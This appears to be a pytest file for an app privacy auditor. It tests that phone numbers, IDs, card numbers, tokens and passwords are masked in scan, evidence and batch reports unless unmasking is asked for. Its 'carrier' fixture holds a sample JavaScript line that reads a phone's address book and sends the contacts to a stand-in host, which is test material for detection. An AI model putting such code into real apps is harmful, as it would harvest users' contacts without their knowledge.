"""Personal data and secrets that an app carries do not come out of any format, unless asked for."""

from __future__ import annotations

import zipfile
from dataclasses import replace
from pathlib import Path

import pytest

from auditor.masking import mask_text, masked
from auditor.report import RENDERERS
from tests.report_fixture import everywhere, rich

JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0"
SECRETS = {
    "mobile number": ("13800138000", "138******00"),
    "with its country": ("+8613912345678", "+86*********78"),
    "of another country": ("call +919876543210 now", "call +91********10 now"),
    "mail": ("li.ming@example.com", "l***@example.com"),
    "identity card": ("id 11010519491231002X", "id 110************2X"),
    "bank card": ("6222021234567890128", "622************28"),
    "token": (JWT, "eyJ************P0"),
    "key of a cloud": ("AKIAIOSFODNN7EXAMPLE", "AKI************LE"),
    "parameter": ("https://a.example/x?token=abcdef123456&n=1", "token=abc*******56&n=1"),
    "password": ('{"password": "hunter2"}', '"password": "*******"'),
    "login": ("https://root:letmein99@a.example/", "https://root:let****99@a.example/"),
}


@pytest.mark.parametrize(("text", "shown"), SECRETS.values(), ids=SECRETS)
def test_is_masked(text: str, shown: str) -> None:
    assert shown in mask_text(text)
    assert mask_text(mask_text(text)) == mask_text(text)


@pytest.mark.parametrize(
    "text",
    [
        "https://api.a.example/v1/contacts?page=2",
        "Lcom/a/B;->m(Ljava/lang/String;)V@0012",
        "1583020800000",  # milliseconds
        "15552000000L",  # 180 days
        "6222021234567890123",  # no card: its last digit does not fit
        "110105194912310021",  # no identity card
        "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "12345678901234567890123456789012",
        "192.168.100.200:8080",
        "token",
        "com.example.loan:id/password",
        "content://com.android.contacts/data/phones",
        "2.13800138000",
        "if (password == null) return;",
    ],
)
def test_evidence_stays(text: str) -> None:
    assert mask_text(text) == text


def test_what_the_terms_publish_stays() -> None:
    text = "service@lender.example, 13800138000, privat@x.example"
    shown = mask_text(text, published="客服 13800138000，service@lender.example")
    assert shown == "service@lender.example, 13800138000, p***@x.example"


@pytest.mark.parametrize("form", RENDERERS)
def test_no_format_shows_them(form: str) -> None:
    secrets = ["13800138000", "li.ming@example.com", "11010519491231002X", JWT, "hunter2secret"]
    carried = f"{' '.join(secrets[:4])} password={secrets[4]}"
    base = everywhere(carried)
    package = replace(rich().package, manifest=base.package.manifest)
    whole = replace(base, package=package, terms=rich().terms, quotes={"Lt/A;->m()V": carried})
    for lang in ("en", "zh"):
        shown = RENDERERS[form](masked(whole), lang)
        assert [s for s in secrets if s in shown] == []
        assert any(s in RENDERERS[form](whole, lang) for s in secrets)


def test_a_report_without_any_is_the_same() -> None:
    report = rich()
    assert masked(report) == report


def test_long_texts_take_no_time() -> None:
    for piece in ("a", "1", "a.", "@", "eyJ", "token=", "+", "-----BEGIN PRIVATE KEY-----"):
        text = piece * (200_000 // len(piece))
        mask_text("@" + text + "123456789")


@pytest.fixture(scope="module")
def carrier(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An app whose script carries a number and a token."""
    from tests.test_bad_input import with_files

    script = (
        b"plus.contacts.getAddressBook(0,function(b){b.find([],function(c){uni.request({url:"
        b"'https://a.example/u?phone=13800138000&token=abcdef123456',data:c})})})"
    )
    app = tmp_path_factory.mktemp("carrier") / "app.apk"
    app.write_bytes(with_files(**{"assets/www/a.js": script}))
    return app


def shows(text: str, *, secrets: bool) -> None:
    assert "https://a.example/u" in text
    assert ("13800138000" in text) == secrets
    assert ("abcdef123456" in text) == secrets


UNMASK = pytest.mark.parametrize("more", [(), ("--unmask",)], ids=["masked", "unmasked"])


@UNMASK
def test_scan_masks_unless_told(carrier: Path, tmp_path: Path, more: tuple[str, ...]) -> None:
    from auditor.cli import run

    assert run(["scan", str(carrier), "-q", "-f", "json,html", "-o", str(tmp_path), *more]) == 0
    assert len(list(tmp_path.iterdir())) == 2
    for path in tmp_path.iterdir():
        shows(path.read_text("utf-8"), secrets=bool(more))


@UNMASK
def test_evidence_masks_unless_told_and_holds(
    carrier: Path, tmp_path: Path, more: tuple[str, ...]
) -> None:
    from auditor.cli import run

    kept = tmp_path / "e.zip"
    assert run(["evidence", str(carrier), "-o", str(kept), *more]) == 0
    with zipfile.ZipFile(kept) as archive:
        for name in ("report.json", "report.html"):
            shows(archive.read(name).decode(), secrets=bool(more))
    assert run(["verify", str(kept), "--app", str(carrier)]) == 0


def test_a_batch_masks_unless_told(carrier: Path, tmp_path: Path) -> None:
    """And judges anew when it is told otherwise."""
    from auditor.cli import run

    store = str(tmp_path / "store.db")
    for number, more in enumerate([(), ("--unmask",), ()]):
        asked = ["batch", str(carrier), "-s", store, "-q", "--workers", "1", *more]
        assert run(asked) == 0
        out = tmp_path / f"{number}.jsonl"
        assert run(["export", "-s", store, "-o", str(out)]) == 0
        shows(out.read_text("utf-8"), secrets=bool(more))
